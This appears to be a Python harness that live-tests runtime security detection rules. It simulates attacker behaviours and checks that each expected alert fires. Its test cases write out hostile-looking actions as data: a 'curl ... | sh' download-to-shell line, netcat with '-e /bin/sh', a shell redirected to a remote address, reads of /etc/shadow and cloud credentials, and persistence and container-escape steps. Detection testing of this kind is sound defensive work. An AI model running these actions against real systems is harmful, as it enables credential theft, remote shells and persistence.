"""The live test of rules: makes each rule's behaviour happen and looks for its alert."""
import json
import os
import pty
import secrets
import shutil
import subprocess

import cgroups
import machine

HERE = os.path.dirname(os.path.abspath(__file__))
# A container of this run only.
CONTAINER = secrets.token_hex(32)


class Stage:
    """Where the acts happen: a directory with the actor under many names, and a cgroup that looks like a container's."""

    def __init__(self, build, directory):
        self.actor = os.path.join(build, "helper_act")
        self.directory = directory
        os.chmod(directory, 0o755)
        self.groups = {True: cgroups.container(CONTAINER), False: cgroups.host()}
        self.names = set()

    def close(self):
        for path in self.names:
            os.unlink(path)
        for group in self.groups.values():
            group.close()

    def path(self, name):
        return os.path.join(self.directory, name)

    def named(self, name, directory=None):
        """The actor under another name."""
        path = os.path.join(directory or self.directory, name)
        if path not in self.names:
            shutil.copy(self.actor, path)
            self.names.add(path)
        return path

    def run(self, name, *acts, container=False):
        """Runs the actor as `name`; returns the process."""
        return self.command([self.named(name), *acts], container)

    def command(self, command, container=False):
        """Runs any command."""
        return subprocess.Popen(command, stdin=subprocess.DEVNULL, cwd=self.directory, preexec_fn=self.groups[container].enter)

    def run_in_terminal(self, name, *acts):
        """Runs the actor in the container with a terminal of its own."""
        pid, terminal = pty.fork()
        if pid == 0:
            self.groups[True].enter()
            os.execv(self.named(name), [name, *acts])
        try:
            while os.read(terminal, 4096):
                pass
        except OSError:
            pass
        os.close(terminal)
        os.waitpid(pid, 0)


class Case:
    """A rule, how its alert comes about, and what must stand in it."""

    def __init__(self, rule, act, is_slow=False, **fields):
        self.rule, self.act, self.is_slow = rule, act, is_slow
        self.fields = {name.replace("_", "."): value for name, value in fields.items()}


def actor(name, *acts, **arguments):
    return lambda stage: stage.run(name, *acts, **arguments)


def in_container(name, *acts):
    return actor(name, *acts, container=True)


STABLE = [
    Case("Directory traversal monitored file read", actor("traverser", "read", "/tmp/../tmp/../etc/hostname"),
         proc_name="traverser", fd_name="/etc/hostname"),
    Case("Read sensitive file trusted after startup", actor("httpd", "sleep", "5300", "read", "/etc/shadow"), is_slow=True,
         proc_name="httpd", fd_name="/etc/shadow"),
    Case("Read sensitive file untrusted", actor("reader", "read", "/etc/shadow"), proc_name="reader", fd_name="/etc/shadow"),
    Case("Run shell untrusted", actor("nginx", "spawn", "/bin/sh", "-c", "exit 0"), proc_name="sh", proc_pname="nginx"),
    Case("System user interactive", lambda stage: stage.run("sshd", "as", "65534", "spawn", stage.named("session"), "sleep", "0"),
         proc_name="session", user_name="nobody", proc_pname="sshd"),
    Case("Terminal shell in container", lambda stage: stage.run_in_terminal("runc", "spawn", "/bin/sh", "-c", "exit 0"),
         proc_name="sh", proc_pname="runc"),
    Case("Contact K8S API Server From Container", in_container("client", "connect-datagrams", "127.0.0.9", "443"), proc_name="client"),
    Case("Netcat Remote Code Execution in Container", in_container("nc", "sleep", "0", "-e", "/bin/sh"), proc_name="nc"),
    Case("Search Private Keys or Passwords", actor("find", "sleep", "0", "/", "-name", "id_rsa"), proc_name="find"),
    Case("Clear Log Activities", lambda stage: stage.run("cleaner", "truncate", stage.path("auth.log")), proc_name="cleaner",
         fd_name="{stage}/auth.log"),
    Case("Remove Bulk Data from Disk", actor("shred", "sleep", "0"), proc_name="shred"),
    Case("Create Symlink Over Sensitive Files", lambda stage: stage.run("linker", "symlink", "/etc/shadow", stage.path("pointer")),
         proc_name="linker", evt_arg_target="/etc/shadow", evt_arg_linkpath="{stage}/pointer"),
    Case("Create Hardlink Over Sensitive Files", lambda stage: stage.run("linker", "link", "/etc/shadow", stage.path("hard")),
         proc_name="linker", evt_arg_oldpath="/etc/shadow", evt_arg_newpath="{stage}/hard"),
    Case("Packet socket created in container", in_container("sniffer", "packets"), proc_name="sniffer"),
    Case("Redirect STDOUT/STDIN to Network Connection in Container",
         in_container("shellback", "network", "203.0.113.9", "connect", "203.0.113.9", "4443", "redirect"),
         proc_name="shellback", fd_sip="203.0.113.9"),
    Case("Linux Kernel Module Injection Detected", in_container("inserter", "module"), proc_name="inserter"),
    Case("Detect release_agent File Container Escapes",
         lambda stage: stage.run("escaper", "write", stage.path("release_agent"), container=True),
         proc_name="escaper", fd_name="{stage}/release_agent"),
    Case("PTRACE attached to process", actor("debugger", "attach"), proc_name="debugger"),
    Case("PTRACE anti-debug attempt", actor("hider", "untraceable"), proc_name="hider"),
    Case("Find AWS Credentials", actor("grep", "sleep", "0", "aws_access_key_id"), proc_name="grep"),
    Case("Execution from /dev/shm", lambda stage: stage.command([stage.named("falcod-live-actor", "/dev/shm"), "sleep", "0"]),
         proc_name="falcod-live-act", proc_exepath="/dev/shm/falcod-live-actor"),
    Case("Drop and execute new binary in container", in_container("dropper", "upper"), proc_name="dropped"),
    Case("Disallowed SSH Connection Non Standard Port", actor("ssh", "network", "203.0.113.9", "connect", "203.0.113.9", "443"),
         proc_name="ssh", fd_type="ipv4", fd_l4proto="tcp"),
    Case("Fileless execution via memfd_create", actor("loader", "memory"), proc_exepath="memfd:payload"),
]

# Rules that nothing on a machine without a container runtime can trigger.
STABLE_EXCEPTIONS = {
    "Debugfs Launched in Privileged Container": "only a container runtime says whether a container is privileged",
}

OWN = [
    Case("Password hashes read", actor("reader", "read", "/etc/shadow"), proc_name="reader", fd_name="/etc/shadow", container_id="host"),
    Case("Private key read by a foreign program",
         actor("thief", "hide", "/root", "mkdir", "/root/.ssh", "write", "/root/.ssh/id_rsa", "read", "/root/.ssh/id_rsa"),
         proc_name="thief", fd_name="/root/.ssh/id_rsa"),
    Case("Cloud or cluster credentials read",
         lambda stage: stage.run("thief", "mkdir", stage.path(".aws"), "write", stage.path(".aws/credentials"),
                                 "read", stage.path(".aws/credentials")),
         proc_name="thief", fd_name="{stage}/.aws/credentials"),
    Case("Memory of another process opened", actor("dumper", "peek"), proc_name="dumper"),
    Case("SSH key of an account planted",
         lambda stage: stage.run("planter", "mkdir", stage.path(".ssh"), "write", stage.path(".ssh/authorized_keys")),
         proc_name="planter", fd_name="{stage}/.ssh/authorized_keys"),
    Case("Scheduled job planted", actor("planter", "hide", "/etc", "mkdir", "/etc/cron.d", "write", "/etc/cron.d/job"),
         proc_name="planter", fd_name="/etc/cron.d/job"),
    Case("Library preloaded into every program", actor("planter", "hide", "/etc", "write", "/etc/ld.so.preload"),
         proc_name="planter", fd_name="/etc/ld.so.preload"),
    Case("Program below a system directory written", actor("planter", "hide", "/usr/local/sbin", "write", "/usr/local/sbin/tool"),
         proc_name="planter", fd_name="/usr/local/sbin/tool"),
    Case("Set-user-id bit given",
         lambda stage: stage.run("raiser", "write", stage.path("tool"), "chmod", stage.path("tool"), "4755"),
         proc_name="raiser", fs_path_name="{stage}/tool"),
    Case("Container left through a kernel interface",
         lambda stage: stage.run("escaper", "write", stage.path("release_agent"), container=True),
         proc_name="escaper", fd_name="{stage}/release_agent", container_id=CONTAINER[:12]),
    Case("Namespace of the host entered from a container", in_container("enterer", "enter"), proc_name="enterer",
         container_id=CONTAINER[:12]),
    Case("Shell with its input from the network",
         actor("shellback", "connect", "127.0.0.1", "4443", "redirect", "exec", "/bin/sh", "-c", "exit 0"),
         proc_cmdline="sh -c exit 0"),
    Case("Shell started by a server", actor("nginx", "spawn", "/bin/sh", "-c", "exit 0"), proc_pname="nginx"),
    Case("Program started from memory", actor("loader", "memory"), proc_exepath="memfd:payload"),
    Case("Program started from a world-writable directory", actor("resident", "sleep", "0"), proc_exepath="{stage}/resident"),
    Case("Download handed to a shell", lambda stage: stage.command(["/bin/sh", "-c", "exit 0; curl http://192.0.2.1/x | sh"]),
         proc_cmdline="sh -c exit 0; curl http://192.0.2.1/x | sh"),
    Case("Log or history destroyed", actor("cleaner", "hide", "/var/log", "write", "/var/log/messages", "unlink", "/var/log/messages"),
         proc_name="cleaner", fs_path_name="/var/log/messages"),
    Case("Cloud metadata asked for credentials",
         in_container("thief", "network", "169.254.169.254", "connect-datagrams", "169.254.169.254", "80"), proc_name="thief"),
    Case("Mining pool contacted", actor("miner", "sleep", "0", "stratum+tcp://pool.example:3333"), proc_name="miner"),
]

OWN_EXCEPTIONS = {
    "Kernel module loaded": "asks for a module that was loaded; refused where the kernel takes none",
}


def rule_names(path):
    """Names of the rules that a file defines and does not disable."""
    result = []
    with open(path, encoding="utf-8") as source:
        for line in source:
            if line.startswith("- rule:"):
                result.append(line.split(":", 1)[1].strip())
            elif line.strip() == "enabled: false" and result:
                result.pop()
    return result


def run(cases, stage):
    """Makes everything happen; what takes its time goes on beside the rest."""
    slow = [(case, case.act(stage)) for case in cases if case.is_slow]
    for case, process in [(case, None) for case in cases if not case.is_slow] + slow:
        process = process or case.act(stage)
        if process is not None and process.wait(30) != 0:
            raise machine.Failure("%s: %s ended with status %d" % (case.rule, " ".join(process.args), process.returncode))


def find(case, alerts, stage):
    """What is wrong with the alert of a case; None when it is there and as it must be."""
    own = [alert for alert in alerts if alert.get("rule") == case.rule]
    if not own:
        return "no alert"
    wanted = {name: value.replace("{stage}", stage.directory) if isinstance(value, str) else value for name, value in case.fields.items()}
    best = min(([(name, value, alert["output_fields"].get(name)) for name, value in wanted.items()
                 if alert["output_fields"].get(name) != value] for alert in own), key=len)
    if not best:
        return None
    return "; ".join("%s: expected %r, seen %r" % difference for difference in best)


def check(cases, exceptions, rules_file, output, stage):
    """Prints a line per rule; returns the number of faults."""
    alerts, faults = [], 0
    for line in output.decode("utf-8", errors="replace").splitlines():
        if line.startswith("{"):
            alerts.append(json.loads(line))
    for case in cases:
        wrong = find(case, alerts, stage)
        print("%s %s%s" % ("FAIL" if wrong else "ok  ", case.rule, ": " + wrong if wrong else ""))
        faults += wrong is not None
    known = {case.rule for case in cases}
    for name in rule_names(rules_file):
        if name in exceptions:
            print("     %s: not triggered here, %s" % (name, exceptions[name]))
        elif name not in known:
            print("FAIL %s: no trigger, and no reason given" % name)
            faults += 1
    return faults
